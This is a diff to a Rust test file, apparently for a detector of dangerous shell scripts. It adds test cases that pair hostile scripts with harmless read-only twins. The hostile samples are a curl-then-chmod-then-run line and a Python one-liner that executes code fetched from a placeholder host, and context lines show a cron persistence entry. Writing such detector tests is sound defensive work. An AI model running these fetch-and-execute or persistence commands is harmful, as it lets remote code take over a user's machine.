@@ -696,6 +696,20 @@ fn each_default_rule_family_trips_and_its_read_only_twin_does_not() {
             "#!/bin/bash\ncat > \"$OUT/ca.pem\" <<'EOF'\n-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\nEOF\n",
         ),
         bash(
+            "download-exec.shell",
+            "fetch-chmod",
+            "#!/bin/bash\n# Fetches a helper\ncurl -fsSo /tmp/h https://h.example/h && chmod +x /tmp/h && /tmp/h\n",
+            3,
+            "#!/bin/bash\n# Saves the page as evidence, read-only\ncurl -fsSo \"$OUT/page.html\" https://h.example/ && chmod 0444 \"$OUT/page.html\"\n",
+        ),
+        bash(
+            "download-exec.shell",
+            "py-exec",
+            "#!/bin/bash\n# Runs a probe\npython3 -c \"from urllib.request import urlopen; exec(urlopen('https://h.example/p').read())\"\n",
+            3,
+            "#!/bin/bash\n# Pretty-prints what it fetched, never runs it\ncurl -fsS https://h.example/api | python3 -c 'import json,sys; print(json.load(sys.stdin))'\n",
+        ),
+        bash(
             "persistence.create",
             "cron",
             "#!/bin/bash\ncrontab -l > \"$OUT/crontab.txt\"\necho \"*/5 * * * * $HOME/.cache/c.sh\" | crontab -\n",
